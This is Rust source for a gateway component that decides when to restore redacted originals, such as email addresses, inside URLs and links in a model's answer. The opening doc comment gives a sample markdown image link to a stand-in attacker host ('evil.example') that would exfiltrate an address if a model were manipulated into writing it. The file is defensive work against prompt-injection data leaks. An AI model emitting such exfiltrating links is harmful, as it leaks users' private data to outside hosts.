//! [`LinkGuard`]: the protection of originals from whoever serves the links of a model's answer.
//!
//! Whatever renders an answer may fetch what it links to. A model that was talked into writing
//! `![](https://evil.example/?q=[EMAIL_ADDRESS_1])` must not get the address put in. So within URLs and link targets a
//! substitute is restored only if the host has been read whole and is one of the route's or of this network, if the very
//! URL stood in a text of the request, whose writer knew the original, or if it is the address of a `mailto:` or `tel:`
//! link, which fetches nothing.
//!
//! Renderers differ, and browsers forgive much: tabs and newlines within URLs, backslashes, user names, entities. What
//! is not plainly `http://host/…` or `https://host/…` therefore has no host at all here. What may be the target of a
//! link or an attribute is followed up to its end, side by side with all other open targets and with the bare URL in the
//! text, which ends at white space: which of them counts depends on the renderer, so all of them must allow it.
//!
//! The guard follows the client's view, with the originals in it. It takes a few bytes of state, which are kept across
//! the chunks of a stream.

use super::{
    bare_host::BareHost,
    known_urls::{MAX_URL, MarkedUrl, is_trailing},
    line::Line,
    subdomain::{Subdomain, is_allowed, known},
    table::RestoreTable,
    tag::Tag,
    target::Target,
    url::Url,
    words::{ATTRIBUTES, SPECIAL, TAG_ATTRIBUTES, ends_url, is_opening, is_telling, pack},
};

/// Most open targets.
const MAX_TARGETS: usize = 8;

/// The distance behind an original that ends in an authority in which the end of a host is looked for, in bytes.
const MAX_TAIL: usize = 64;

/// The decision on a substitute.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Verdict {
    /// The client gets the original.
    Restore,
    /// The client gets the substitute.
    Leave,
    /// The text behind it must be seen first.
    Wait,
}

/// The links and URLs that are open at one place of a text.
#[derive(Clone, Default)]
pub(super) struct LinkGuard {
    /// The word before this place, in lower case: up to 15 letters, the last one lowest.
    word: u128,
    /// The letters of that word.
    letters: usize,
    /// The byte before that word.
    before_word: u8,
    /// The host-like end of the text.
    host: BareHost,
    /// The bytes behind `<` that may be a scheme, and one more; 0: there are none.
    angle: u8,
    /// True if the text is source that nothing renders: a quote ends a URL there.
    is_source: bool,
    /// The last two bytes, the very last first.
    last: [u8; 2],
    /// True if the last bytes but white space name an attribute that holds a URL.
    attribute: bool,
    tag: Tag,
    line: Line,
    bare: Url,
    /// The byte that closes the bare URL beside white space; 0 if there is none.
    close: u8,
    /// Open targets.
    targets: Vec<Target>,
    /// True if there were too many targets to follow: nothing is restored any more.
    lost: bool,
    /// Open square brackets.
    brackets: u32,
    /// True if the last square bracket that closed had been open.
    matched: bool,
    /// The URLs with a substitute in them; `None` unless they are to be collected.
    collected: Option<Vec<MarkedUrl>>,
}

impl LinkGuard {
    /// A guard of source that nothing renders.
    pub(super) fn of_source() -> Self {
        Self { is_source: true, ..Self::default() }
    }

    /// Reports whether a URL or a target is open.
    pub(super) fn is_open(&self) -> bool {
        self.lost || !self.bare.is_none() || !self.targets.is_empty()
    }

    /// A guard that collects the URLs with a substitute in them.
    pub(super) fn collecting() -> Self {
        Self { collected: Some(Vec::new()), ..Self::default() }
    }

    /// The collected URLs, at the end of the text.
    pub(super) fn finish(mut self) -> Vec<MarkedUrl> {
        self.end_all();
        self.collected.unwrap_or_default()
    }

    /// The decision on a substitute of `original` at this place, before `rest`, which is all there is if `eof`.
    pub(super) fn judge(
        &self,
        table: &RestoreTable,
        (substitute, original): (&str, &str),
        rest: &str,
        eof: bool,
    ) -> Verdict {
        if self.lost {
            return Verdict::Leave;
        }
        let bare = self.bare.is_none() || self.bare.allows();
        if bare && self.targets.iter().all(|target| target.allows(original)) {
            return if self.bare.is_none() {
                self.judge_end(table, (substitute, original), rest, eof)
            } else {
                Verdict::Restore
            };
        }
        let may_be_known = |url: &Url| table.known_urls.may_become(&url.with(substitute));
        let denied = self.targets.iter().filter(|target| !target.allows(original)).map(Target::url);
        if !bare && !may_be_known(&self.bare) || !denied.into_iter().all(may_be_known) {
            return Verdict::Leave;
        }
        self.judge_known(table, (substitute, original), rest, eof)
    }

    /// The decision outside of links. An original that is a URL itself may end within its host, with which the text
    /// behind it must not go on.
    fn judge_end(&self, table: &RestoreTable, (substitute, original): (&str, &str), rest: &str, eof: bool) -> Verdict {
        match self.judge_subdomain(table, (substitute, original), rest, eof) {
            Verdict::Restore => {}
            verdict => return verdict,
        }
        let is_plain = memchr::memchr2(b':', b'/', original.as_bytes()).is_none();
        if is_plain && !original.get(..4).is_some_and(|start| start.eq_ignore_ascii_case("www.")) {
            return Verdict::Restore;
        }
        let mut after = self.clone();
        after.restore(table, (substitute, original));
        let is_host = |text: &str| !text.contains(['/', '?', '#']);
        let open = after.bare.is_bad() && original.rsplit("//").next().is_some_and(is_host);
        if !open && !after.bare.is_in_authority() {
            return Verdict::Restore;
        }
        let rest = rest.as_bytes();
        if after.close != 0 && rest.first() == Some(&after.close) || matches!(rest.first(), Some(b'/' | b'?' | b'#')) {
            return Verdict::Restore;
        }
        match rest.iter().take(MAX_TAIL).find(|byte| !is_trailing(**byte)) {
            Some(byte) if ends_url(*byte) => Verdict::Restore,
            None if eof => Verdict::Restore,
            None if rest.len() < MAX_TAIL => Verdict::Wait,
            _ => Verdict::Leave,
        }
    }

    /// The decision on a substitute of which the text behind it may make a part of a host. In source nothing does.
    fn judge_subdomain(
        &self,
        table: &RestoreTable,
        (substitute, original): (&str, &str),
        rest: &str,
        eof: bool,
    ) -> Verdict {
        if self.is_source {
            return Verdict::Restore;
        }
        match Subdomain::find(original, rest, eof) {
            Subdomain::No => Verdict::Restore,
            Subdomain::Wait => Verdict::Wait,
            Subdomain::Of(name) if is_allowed(original, name, &table.hosts) => Verdict::Restore,
            Subdomain::Of(name) if table.known_urls.contains(&known(substitute, name), true) => Verdict::Restore,
            Subdomain::Of(_) => Verdict::Leave,
        }
    }

    /// Collects the host of which a substitute of `original` is a part, if `rest` behind it makes one.
    pub(super) fn know_subdomain(&mut self, (substitute, original): (&str, &str), rest: &str) {
        if let (Some(collected), Subdomain::Of(name)) = (&mut self.collected, Subdomain::find(original, rest, true)) {
            collected.push(known(substitute, name));
        }
    }

    /// The decision within links to other hosts: all of them must be known, up to their ends.
    fn judge_known(
        &self,
        table: &RestoreTable,
        (substitute, original): (&str, &str),
        rest: &str,
        eof: bool,
    ) -> Verdict {
        let mut ahead = Self { collected: Some(Vec::new()), ..self.clone() };
        ahead.restore(table, (substitute, original));
        // Source may spell each slash with escapes.
        let reach = 2 * table.known_urls.reach();
        for byte in rest.bytes().take(reach) {
            if !ahead.is_marked() {
                break;
            }
            ahead.feed(table, &[byte], true);
        }
        if ahead.is_marked() && !(eof && rest.len() <= reach) {
            if rest.len() < reach {
                return Verdict::Wait;
            }
            ahead.urls_mut().for_each(Url::cut);
        }
        ahead.end_all();
        let urls = ahead.collected.unwrap_or_default();
        let known = !urls.is_empty() && urls.iter().all(|url| table.known_urls.contains(url, self.is_source));
        if known { Verdict::Restore } else { Verdict::Leave }
    }

    /// Reports whether a URL with a substitute in it is open.
    fn is_marked(&self) -> bool {
        self.bare.is_marked() || self.targets.iter().any(|target| target.url().is_marked())
    }

    /// Goes on behind `text`, which the client gets as it is.
    pub(super) fn pass(&mut self, table: &RestoreTable, text: &str) {
        self.feed(table, text.as_bytes(), true);
    }

    /// Goes on behind a substitute, in whose place the client gets the original.
    pub(super) fn restore(&mut self, table: &RestoreTable, (substitute, original): (&str, &str)) {
        let calls: Vec<bool> = self.targets.iter().map(|target| target.url().is_call()).collect();
        // What is open holds the substitute, even if a blank in the original ends it.
        self.record(table, substitute);
        self.feed(table, original.as_bytes(), false);
        if self.targets.len() == calls.len() {
            for (target, _) in self.targets.iter_mut().zip(calls).filter(|(_, is_call)| *is_call) {
                target.url_mut().go_on_with_call();
            }
        }
        self.record_opened(table, substitute);
    }

    /// Notes in all open URLs that `substitute` stands here.
    fn record(&mut self, table: &RestoreTable, substitute: &str) {
        let (keep, mark) = (self.keep(table), self.collected.is_some());
        for url in self.urls_mut() {
            url.record(substitute, keep, mark);
        }
    }

    /// Notes in the URLs that the original itself opened that `substitute` stands for their beginning.
    fn record_opened(&mut self, table: &RestoreTable, substitute: &str) {
        let (keep, mark) = (self.keep(table), self.collected.is_some());
        for url in self.urls_mut().filter(|url| !url.is_recorded()) {
            url.clear();
            url.record(substitute, keep, mark);
        }
    }

    fn urls_mut(&mut self) -> impl Iterator<Item = &mut Url> {
        let bare = Some(&mut self.bare).filter(|bare| !bare.is_none());
        bare.into_iter().chain(self.targets.iter_mut().map(Target::url_mut))
    }

    /// The number of bytes of a URL that must be kept, to compare it with the known ones.
    fn keep(&self, table: &RestoreTable) -> usize {
        match (&self.collected, table.known_urls.is_empty()) {
            (Some(_), true) => MAX_URL,
            (None, true) => 0,
            (_, false) => table.known_urls.reach(),
        }
    }

    /// Marks open URLs as ones in which a substitute stands that this gateway did not put there.
    pub(super) fn taint(&mut self) {
        self.urls_mut().for_each(Url::taint);
    }

    fn feed(&mut self, table: &RestoreTable, bytes: &[u8], record: bool) {
        let keep = if record { self.keep(table) } else { 0 };
        let (mut next, mut looked) = (0, 0);
        while let Some(&byte) = bytes.get(next) {
            if next >= looked && self.bare.is_none() && self.targets.is_empty() {
                let quiet = bytes.get(next..).unwrap_or_default();
                let quiet = quiet.split(|byte| is_telling(*byte)).next().unwrap_or_default();
                looked = next + quiet.len() + 1;
                let passed = self.skip(quiet);
                if passed > 0 {
                    next += passed;
                    continue;
                }
            }
            next += 1;
            let mut at = 0;
            while let Some(target) = self.targets.get_mut(at) {
                if target.step(byte, &table.hosts, keep) {
                    let target = self.targets.remove(at);
                    self.end_target(&target);
                } else {
                    at += 1;
                }
            }
            self.open_target(byte);
            self.step_bare(byte, table, keep);
            self.remember(byte);
        }
    }

    /// Passes over the beginning of `quiet`, in which no byte is telling, and returns how much that is. Outside
    /// of URLs and targets only the last word and the white space behind it count for what follows.
    fn skip(&mut self, quiet: &[u8]) -> usize {
        let words = quiet.trim_ascii_end();
        let word = words.iter().rev().take_while(|byte| byte.is_ascii_alphabetic()).count();
        let passed = words.get(..words.len() - word).unwrap_or_default();
        let [first, .., before, last] = *passed else { return 0 };
        if first.is_ascii_alphabetic() && self.is_tag_start() {
            self.tag.open();
        }
        if self.tag.is_open() {
            passed.iter().for_each(|byte| self.tag.step(*byte, self.is_source));
        }
        self.line.pass(passed, self.is_source);
        if self.host.is_open() || self.angle > 0 {
            let mut last = self.last[0];
            for &byte in passed {
                self.step_host(byte, last);
                last = byte;
            }
        }
        (self.letters, self.attribute, self.last) = (0, false, [last, before]);
        passed.len()
    }

    /// Reports whether a letter begins a tag here: behind `<`, or behind `</` where the tag ends.
    fn is_tag_start(&self) -> bool {
        self.last[0] == b'<' || self.last == [b'/', b'<']
    }

    /// Goes on behind `byte` with what may be a host or a scheme, which stands behind the byte `before`.
    fn step_host(&mut self, byte: u8, before: u8) {
        self.host.step(byte, before);
        let is_scheme = byte.is_ascii_alphanumeric() || b"+-.".contains(&byte);
        self.angle = match byte {
            b'<' => 1,
            _ if self.angle > 0 && is_scheme => self.angle.saturating_add(1),
            _ => 0,
        };
    }

    fn step_bare(&mut self, byte: u8, table: &RestoreTable, keep: usize) {
        if !self.bare.is_none() {
            // Behind a quote some renderers go on with the URL; behind an angle bracket none does. In source the quote ends a
            // value, that of an attribute among others.
            let is_behind_quote = matches!(self.last[0], b'"' | b'\'' | b'`') && b",:;)]}>".contains(&byte);
            // Source spells line ends and tabs as escapes: JSON in a file, strings of a program.
            let is_escaped_space = self.last[0] == b'\\' && b"nrt".contains(&byte);
            if ends_url(byte)
                || byte == self.close && (self.is_source || byte == b'>')
                || self.is_source && (is_behind_quote || is_escaped_space)
            {
                self.end_bare();
            } else {
                self.bare.step(byte, &table.hosts, keep);
            }
            return;
        }
        let scheme = byte == b':' && self.letters > 0 && SPECIAL.contains(&self.word);
        // `<sms:…>` is a link as well. One to write or to call leads to no host.
        let is_call = self.before_word == b'<' && (self.word == pack("mailto") || self.word == pack("tel"));
        let angle = byte == b':' && self.angle > 2 && !is_call;
        if scheme {
            let plain = self.word == pack("http") || self.word == pack("https");
            self.bare = if plain && is_opening(self.before_word) { Url::after_scheme() } else { Url::bad() };
            for letter in self.word.to_be_bytes().into_iter().filter(|byte| *byte != 0) {
                self.bare.keep(letter, keep);
            }
        } else if byte == b'/' && self.last[0] == b'/' {
            self.bare = Url::bad();
            self.bare.keep(b'/', keep);
        } else if byte == b'.' && self.letters == 3 && self.word == pack("www")
            || matches!(byte, b'/' | b'?' | b'#') && self.host.is_whole()
            || angle
        {
            self.bare = Url::bad();
        } else {
            return;
        }
        self.bare.keep(byte, keep);
        self.close = match self.before_word {
            _ if angle => b'>',
            _ if !scheme => 0,
            quote @ (b'"' | b'\'' | b'`') => quote,
            b'<' => b'>',
            _ => 0,
        };
        if let Some(target) = self.targets.last_mut() {
            target.own_bare(scheme);
        }
    }

    fn open_target(&mut self, byte: u8) {
        let opened = match byte {
            b'(' if self.last[0] == b']' => Target::inline(self.matched),
            b'(' if self.letters == 3 && self.word == pack("url") => Target::style(),
            b':' if self.last[0] == b']' && self.line.is_definition() => Target::reference(),
            b'=' if self.attribute || self.is_attribute() => Target::attribute(self.tag.is_open()),
            _ => return,
        };
        let opened = if self.is_source { opened.of_source() } else { opened };
        if self.targets.len() < MAX_TARGETS {
            self.targets.push(opened);
        } else {
            self.lost = true;
        }
    }

    fn is_attribute(&self) -> bool {
        let is_handler = || (5..=15).contains(&self.letters) && self.word >> (8 * (self.letters - 2)) == pack("on");
        // `?src=` is a part of a URL.
        self.letters > 0
            && !matches!(self.before_word, b'?' | b'&' | b';')
            && (ATTRIBUTES.contains(&self.word)
                || self.tag.is_open() && (TAG_ATTRIBUTES.contains(&self.word) || is_handler()))
    }

    fn remember(&mut self, byte: u8) {
        self.step_host(byte, self.last[0]);
        self.line.step(byte, self.is_source);
        self.tag.step(byte, self.is_source);
        if byte.is_ascii_alphabetic() {
            if self.letters == 0 {
                self.before_word = self.last[0];
                self.word = 0;
                if self.is_tag_start() {
                    self.tag.open();
                }
            }
            self.letters += 1;
            self.word = if self.letters > 15 { 0 } else { self.word << 8 | u128::from(byte.to_ascii_lowercase()) };
            self.attribute = false;
        } else {
            self.attribute = byte.is_ascii_whitespace() && (self.attribute || self.is_attribute());
            match byte {
                b'[' => self.brackets = self.brackets.saturating_add(1),
                b']' => {
                    self.matched = self.brackets > 0;
                    self.brackets = self.brackets.saturating_sub(1);
                }
                _ => {}
            }
            self.letters = 0;
        }
        self.last = [byte, self.last[0]];
    }

    fn end_all(&mut self) {
        for target in std::mem::take(&mut self.targets) {
            self.end_target(&target);
        }
        self.end_bare();
    }

    fn end_target(&mut self, target: &Target) {
        if let Some(collected) = &mut self.collected {
            collected.extend(target.url().marked());
        }
        if target.owns_bare() {
            self.end_bare();
        }
    }

    fn end_bare(&mut self) {
        if let Some(collected) = &mut self.collected {
            collected.extend(self.bare.marked());
        }
        self.bare = Url::default();
        self.close = 0;
    }
}
